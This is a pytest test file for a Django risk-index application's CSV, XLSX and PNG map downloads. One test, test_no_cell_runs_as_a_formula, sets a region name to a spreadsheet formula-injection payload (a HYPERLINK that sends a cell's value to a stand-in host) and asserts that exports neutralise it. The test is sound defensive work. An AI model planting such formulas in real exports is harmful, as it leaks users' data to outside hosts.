"""The index downloads: CSV and XLSX of a run's scores (scope applied, no cell runs as a formula) and the PNG map."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.conf import settings
from openpyxl import load_workbook
from PIL import Image

from tests.personas import client_for
from tests.risk import factories_views as f
from waspada.monitoring.instruments import load_default
from waspada.regions.models import Region
from waspada.risk.maps import COLOURS, NO_DATA_COLOUR, OUTSIDE_COLOUR

pytestmark = pytest.mark.django_db
SWATCH = 600  # pixels of a legend swatch, at most


@pytest.fixture
def runs(personas: dict[str, Any]) -> tuple[Any, Any]:
    load_default(settings.DOMAIN_DIR)
    return f.two_runs()


def _csv(response: Any) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_csv_lists_the_scores_in_rank_order_with_every_dimension(personas: dict[str, Any], runs: Any) -> None:
    response = client_for(personas["national_admin"]).get("/index/export.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert ".csv" in response["Content-Disposition"]
    rows = _csv(response)
    header = rows[0]
    assert header[:5] == ["Kode", "Wilayah", "Kode provinsi", "Tingkat", "Indeks"]
    assert "Konteks sosial dan politik" in header and "Keamanan" in header
    assert [row[0] for row in rows[1:]] == ["35.78", "32.73", "32.04", "31.71"]
    bandung = dict(zip(header, rows[2], strict=True))
    assert bandung["Indeks"] == "64.5" and bandung["Kategori"] == "Tinggi" and bandung["Cakupan (%)"] == "75.0"
    assert bandung["Partisipasi"] == "44.5"


def test_csv_of_provinces_and_of_one_office(personas: dict[str, Any], runs: Any) -> None:
    first, _second = runs
    rows = _csv(client_for(personas["national_admin"]).get(f"/index/export.csv?level=province&run={first.pk}"))
    assert {row[0]: row[4] for row in rows[1:]} == {"35": "66.0", "32": "48.0", "31": "25.0"}
    office = _csv(client_for(personas["kabkota_officer"]).get("/index/export.csv"))
    assert [row[0] for row in office[1:]] == ["32.73"]


def test_no_cell_runs_as_a_formula(personas: dict[str, Any], runs: Any) -> None:
    Region.objects.filter(code="32.73").update(name='=HYPERLINK("http://x.example/?"&A1,"Klik")')
    client = client_for(personas["province_officer"])
    rows = _csv(client.get("/index/export.csv"))
    assert rows[1][1] == '\'=HYPERLINK("http://x.example/?"&A1,"Klik")'
    response = client.get("/index/export.xlsx")
    assert response.status_code == 200 and ".xlsx" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=2)
    assert cell.data_type == "s" and cell.quotePrefix and cell.value.startswith("=HYPERLINK")
    assert [sheet.cell(row=n, column=1).value for n in range(2, sheet.max_row + 1)] == ["32.73", "32.04"]
    assert sheet.cell(row=2, column=5).value == 64.5  # numbers stay numbers


def test_bad_download_parameters_are_a_400_naming_them(personas: dict[str, Any], runs: Any) -> None:
    response = client_for(personas["national_admin"]).get("/index/export.xlsx?level=desa&run=abc")
    assert response.status_code == 400
    text = response.content.decode()
    assert text.startswith("level:") and "run:" in text


def _colours(png: bytes) -> set[str]:
    """The colours that fill an area on the map: more pixels than a legend's swatch (which shows every class)."""
    image = Image.open(io.BytesIO(png)).convert("RGB")
    return {"#{:02x}{:02x}{:02x}".format(*rgb) for count, rgb in image.getcolors(maxcolors=1 << 20) if count > SWATCH}


def test_png_map_in_category_colours(personas: dict[str, Any], runs: Any) -> None:
    response = client_for(personas["national_analyst"]).get("/index/map.png")
    assert response.status_code == 200 and response["Content-Type"] == "image/png"
    assert ".png" in response["Content-Disposition"]
    image = Image.open(io.BytesIO(response.content))
    assert image.size == (1400, 1000)
    seen = _colours(response.content)
    # Kota Bandung tinggi, Kab. Bandung sedang, Jakarta Pusat rendah (Surabaya is not in the small layer).
    assert {COLOURS["tinggi"], COLOURS["sedang"], COLOURS["rendah"]} <= seen


def test_png_of_a_dimension_and_of_an_office(personas: dict[str, Any], runs: Any) -> None:
    client = client_for(personas["national_admin"])
    # Partisipasi is the composite minus 20: Kota Bandung 44.5 (sedang), Kab. Bandung 20 (rendah).
    seen = _colours(client.get("/index/map.png?layer=partisipasi").content)
    assert COLOURS["tinggi"] not in seen and COLOURS["rendah"] in seen
    office = _colours(client_for(personas["kabkota_officer"]).get("/index/map.png").content)
    assert COLOURS["tinggi"] in office and OUTSIDE_COLOUR in office and COLOURS["sedang"] not in office
    assert NO_DATA_COLOUR not in office


def test_swatch_bound_holds(personas: dict[str, Any], runs: Any) -> None:
    """The legend alone (no score in the user's scope on this level) leaves no category colour above SWATCH."""
    png = client_for(personas["kabkota_officer"]).get("/index/map.png?level=province").content
    assert not {COLOURS["tinggi"], COLOURS["sedang"], COLOURS["rendah"], NO_DATA_COLOUR} & _colours(png)
